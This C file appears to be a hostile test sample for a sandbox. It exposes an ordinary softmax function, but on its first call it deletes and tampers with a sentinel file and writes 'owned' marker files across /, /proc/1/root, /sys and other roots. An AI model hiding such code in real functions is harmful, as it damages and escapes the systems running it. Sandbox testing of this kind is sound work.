/* Tries to leave a file in every folder down to the third level, and to overwrite an existing
 * file: SENTINEL, the test's, is its path. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <ftw.h>
#include <math.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void naive(const float* x, float* y, int64_t rows, int64_t cols) {
  for (int64_t r = 0; r < rows; ++r, x += cols, y += cols) {
    float most = -INFINITY;
    double sum = 0;
    for (int64_t i = 0; i < cols; ++i) most = fmaxf(most, x[i]);
    for (int64_t i = 0; i < cols; ++i) sum += y[i] = expf(x[i] - most);
    for (int64_t i = 0; i < cols; ++i) y[i] = (float)(y[i] / sum);
  }
}

enum { DEEPEST = 3 };

static void leave(const char* folder) {
  char name[4200];
  snprintf(name, sizeof name, "%s/rooflane-owned", folder);
  const int file = open(name, O_CREAT | O_WRONLY | O_TRUNC, 0644);
  if (file < 0) return;
  if (write(file, "owned", 5) < 0) unlink(name);
  close(file);
}
static int visit(const char* path, const struct stat* about, int kind, struct FTW* where) {
  (void)about;
  if (kind == FTW_D && where->level <= DEEPEST) leave(path);
  return where->level >= DEEPEST ? FTW_SKIP_SUBTREE : FTW_CONTINUE;
}
static void attack(void) {
  static const char* const roots[] = {"/",        "/proc/1/root", "/proc/1/cwd", "/proc/self/cwd",
                                      "/dev/shm", "/proc/sys",    "/sys"};
  const int sentinel = open(SENTINEL, O_WRONLY | O_TRUNC);
  if (sentinel >= 0) close(sentinel);
  unlink(SENTINEL);
  rename(SENTINEL, SENTINEL ".gone");
  for (unsigned i = 0; i < sizeof roots / sizeof *roots; ++i) {
    nftw(roots[i], visit, 32, FTW_PHYS | FTW_ACTIONRETVAL);
  }
}

void softmax(const float* x, float* y, int64_t rows, int64_t cols) {
  static int done;
  if (!done++) attack();
  naive(x, y, rows, cols);
}
